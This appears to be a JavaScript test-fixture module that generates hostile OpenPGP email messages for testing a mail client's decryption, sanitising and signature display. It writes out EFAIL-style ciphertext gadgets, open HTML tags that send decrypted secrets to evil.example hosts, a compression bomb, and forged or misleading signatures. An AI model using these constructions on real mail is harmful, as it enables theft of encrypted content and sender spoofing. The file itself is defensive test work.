// Hostile letters with real OpenPGP in them: encrypted to a reader whose keys are open. What is inside may try everything that
// a letter in clear tries; what is around or has been altered may try to carry away what is inside.
import * as openpgp from "openpgp";
import { head, html, multi, part, pgpMime } from "./hostile_mail.mjs";

const text = (armored) => armored.replace(/\r?\n/g, "\r\n");
/** These take their time, and sealed they are no other letter. */
const longWays = new Set(["5 MB", "100,000 unclosed comments and tags", "10,000 elements deep", "mutation: nested anchors and deep forms"]);

/** How a letter is to end: opened, or why not. */
const says = {
	damaged: /damaged or altered/, unprotected: /without protection against alteration/, noKey: /for a key that you do not have/, tooLarge: /too large to be opened/,
};

/** The packets of a message, with lengths of one kind (RFC 9580 section 4.2). */
function packets(data) {
	const out = [];
	for (let at = 0; at < data.length;) {
		const tag = data[at++] & 0x3f;
		const body = [];
		for (let more = true; more;) {
			const first = data[at++];
			more = first >= 224 && first < 255;
			let size = first;
			if (more)
				size = 1 << (first & 31);
			else if (first === 255) {
				size = Buffer.from(data.slice(at, at + 4)).readUInt32BE();
				at += 4;
			} else if (first >= 192)
				size = ((first - 192) << 8) + data[at++] + 192;
			body.push(data.slice(at, at + size));
			at += size;
		}
		out.push({ tag, body: Buffer.concat(body) });
	}
	return out;
}

function packed(list) {
	return Buffer.concat(list.flatMap(({ tag, body }) => {
		const length = Buffer.alloc(6);
		length[0] = 0xc0 | tag;
		length[1] = 255;
		length.writeUInt32BE(body.length, 2);
		return [length, body];
	}));
}

/** Makes letters to the reader with this key, and from Mallory, who has a key that says she is Marta. */
class Post {
	async begin(key) {
		this.reader = await openpgp.readKey({ binaryKey: key });
		this.other = await this.generate("Somebody Else", "else@other.example");
		this.mallory = await this.generate("Marta Lindqvist", "marta@lindqvist.example");
		return this;
	}

	async generate(name, email) {
		return openpgp.readPrivateKey({ armoredKey: (await openpgp.generateKey({ userIDs: [{ name, email }] })).privateKey });
	}

	/** aead: the younger form of encryption. */
	async seal(inner, { to = this.reader, signed = false, aead = false, compressed = false } = {}) {
		const { uncompressed, zlib } = openpgp.enums.compression;
		const config = { aeadProtect: aead, preferredCompressionAlgorithm: compressed ? zlib : uncompressed };
		return Buffer.from(await openpgp.encrypt({
			message: await openpgp.createMessage({ binary: typeof inner === "string" ? Buffer.from(inner) : inner }), encryptionKeys: to,
			...(signed && { signingKeys: this.mallory }), format: "binary", config,
		}));
	}

	async sign(entity) {
		return text(await openpgp.sign({ message: await openpgp.createMessage({ binary: Buffer.from(entity) }), signingKeys: this.mallory, detached: true }));
	}
}

const armor = (data) => text(openpgp.armor(openpgp.enums.armor.message, data));
const marta = { From: "Marta Lindqvist <marta@lindqvist.example>" };
const signedMime = (entity, signature) =>
	`Content-Type: multipart/signed; micalg=pgp-sha512; protocol="application/pgp-signature"; boundary="=_s"\r\n\r\n--=_s\r\n${entity}\r\n--=_s\r\nContent-Type: application/pgp-signature\r\n\r\n${signature}\r\n--=_s--\r\n`;

/** The known beginning of a text is changed into another; what follows is garbled, as by EFAIL's gadgets. */
function gadget(sealed, inner, to) {
	const list = packets(sealed);
	const data = list.find((p) => p.tag === 18);
	const literal = inner.length + 6 < 192 ? 8 : 9; // tag, length, form, no name, date
	const at = 1 + 18 + literal; // version, random prefix
	for (let i = 0; i < to.length; i++)
		data.body[at + i] ^= inner.charCodeAt(i) ^ to.charCodeAt(i);
	return packed(list);
}

/** Without its protection: the packet that older programs wrote. */
function stripped(sealed) {
	return packed(packets(sealed).map((p) => (p.tag === 18 ? { tag: 9, body: p.body.subarray(1) } : p)));
}

function flipped(sealed, where) {
	const out = Buffer.from(sealed);
	out[Math.floor(out.length * where)] ^= 1;
	return out;
}

const altered = {
	"sealed: altered into an image": async (post, { inner }) => ({ body: pgpMime(armor(gadget(await post.seal(inner), inner, "<img src='//v1/?"))), ending: "damaged" }),
	"sealed: a bit is another one": async (post, { inner }) => ({ body: pgpMime(armor(flipped(await post.seal(inner), 0.8))), ending: "damaged" }),
	"sealed: a bit is another one, younger form": async (post, { inner }) => ({ body: pgpMime(armor(flipped(await post.seal(inner, { aead: true }), 0.8))), ending: "damaged" }),
	"sealed: without the part that protects": async (post, { inner }) => ({ body: pgpMime(armor(stripped(await post.seal(inner)))), ending: "unprotected" }),
	"sealed: altered, and without the part that protects": async (post, { inner }) => ({ body: pgpMime(armor(stripped(gadget(await post.seal(inner), inner, "<img src='//v1/?")))), ending: "unprotected" }),
	"sealed: cut off": async (post, { inner }) => ({ body: pgpMime(armor((await post.seal(inner)).subarray(0, -24))), ending: "damaged" }),
	"sealed: for another key": async (post, { inner }) => ({ body: pgpMime(armor(await post.seal(inner, { to: post.other }))), ending: "noKey" }),
	"sealed: 101 MB in 100 kB": async (post) => ({ body: pgpMime(armor(await post.seal(Buffer.alloc(101 << 20, 32), { compressed: true }))), ending: "tooLarge" }),
};

const around = {
	"sealed: an open image around it": ({ u, sealed, page }) => multi("mixed", [page(`<img src="${u}/?`), pgpMime(sealed), part("text/html", '">')]),
	"sealed: an open style around it": ({ u, sealed, page }) => multi("mixed", [page(`<style>@import "${u}/?`), pgpMime(sealed), part("text/html", '";</style>')]),
	"sealed: inline in an attribute of HTML": ({ u, sealed, page }) => page(`<img src="${u}/?${sealed}">${sealed}`),
	"sealed: inline in a form": ({ u, sealed, page }) => page(`<form action="${u}/"><textarea name="t" autofocus>${sealed}</textarea></form>`),
	"sealed: inside a message in a message": ({ u, sealed, page }) => multi("mixed", [page(`<img src="${u}/?`), `Content-Type: message/rfc822\r\n\r\nFrom: a@b.example\r\nMIME-Version: 1.0\r\n${pgpMime(sealed)}`]),
	"sealed: inline, with text before it": ({ u, sealed, mark }) => part("text/plain; charset=utf-8", `${mark}\r\n${u}\r\n\r\n${sealed}`),
	"sealed: two of them": ({ u, sealed, mark }) => multi("mixed", [part("text/plain", mark), pgpMime(sealed), pgpMime(sealed)]),
	"sealed: beside a part with its Content-ID": ({ u, sealed, page }) => multi("related", [page(`<img src="cid:s@s"><iframe src="cid:s@s"></iframe>`), pgpMime(sealed).replace("multipart/encrypted;", "multipart/encrypted;\r\n x=y;")]),
};

const posing = {
	"sealed: says by itself that it is verified": async (post, { page: inner }) => ({ more: marta, body: pgpMime(armor(await post.seal(inner('<div style="position:fixed;top:0;left:0">Encrypted and verified</div>')))) }),
	"sealed: signed with a key that says it is Marta's": async (post, { page: inner }) => ({ more: marta, body: pgpMime(armor(await post.seal(inner(""), { signed: true }))) }),
	"sealed: signed, by another sender inside": async (post, { page: inner, mark }) => ({ body: pgpMime(armor(await post.seal(`Subject: ${mark}\r\n${inner("").replace("Content-Type: text/html; charset=utf-8", 'From: Marta Lindqvist <marta@lindqvist.example>\r\nContent-Type: text/html; charset=utf-8; hp="cipher"')}`, { signed: true }))) }),
	"signed: a signature over another part": async (post, { mark }) => {
		const entity = part("text/plain", "Pay ten.");
		return { more: marta, body: multi("mixed", [part("text/plain", `${mark}. Pay ninety.`), signedMime(entity, await post.sign(entity))]) };
	},
	"sealed: while the key of its sender is looked for": async (post, { page: inner }) => ({ more: { From: "Slow <held@slow.example>" }, body: pgpMime(armor(await post.seal(inner(""), { signed: true }))) }),
	"signed: three parts": async (post, { mark }) => {
		const entity = part("text/plain", mark);
		return { more: marta, body: signedMime(entity, await post.sign(entity)).replace("--=_s--", `--=_s\r\n${part("text/plain", "Pay ninety.")}\r\n--=_s--`) };
	},
	"signed: altered": async (post, { mark }) => {
		const entity = part("text/plain", `${mark}. Pay ten.`);
		return { more: marta, body: signedMime(entity.replace(/\r\n\r\n/, "\r\nX-Added: 1\r\n\r\n"), await post.sign(entity)) };
	},
	"signed: the sender's server says nothing, and his key comes with the letter": async (post, { mark }) => {
		const entity = part("text/plain", mark);
		const keydata = Buffer.from(post.mallory.toPublic().write()).toString("base64");
		return { more: { ...marta, Autocrypt: `addr=marta@lindqvist.example; keydata=${keydata.replace(/.{70}/g, "$&\r\n ")}` }, body: signedMime(entity, await post.sign(entity)) };
	},
};

/** All of them. number: that of the first one; says: what stands in the place of a letter that cannot be opened. */
export async function sealedLetters(key, number) {
	const post = await new Post().begin(key);
	const list = [];
	const at = () => number + list.length;
	const u = () => `https://v${at()}.evil.example`;
	const mark = () => `LETTER-${at()}-IS-SHOWN`;
	const inner = (more) => part("text/html; charset=utf-8", `<p class="hostile-mark">${mark()}</p>${more}`);
	const add = (name, { more = {}, body, ending }) => list.push({ name, raw: head(name, more) + body, mark: mark(), host: u().slice(8), kind: "sealed", says: says[ending]?.source });
	// What is inside is cleaned as any other letter is: some of each kind of way will do.
	for (const [name, way] of Object.entries(html).filter(([name], i) => i % 3 === 0 && !longWays.has(name)))
		add(`sealed: ${name}`, { body: pgpMime(armor(await post.seal(inner(way(u()))))) });
	for (const [name, make] of Object.entries(altered))
		add(name, await make(post, { inner: inner("") }));
	// What is in these is a secret, which the letter around it must not get at: it is not even shown.
	for (const [name, make] of Object.entries(around))
		add(name, { body: make({ u: u(), mark: mark(), page: inner, sealed: armor(await post.seal(part("text/html", `SECRET-${at()}`))) }) });
	for (const [name, make] of Object.entries(posing))
		add(name, await make(post, { page: inner, mark: mark() }));
	return list;
}
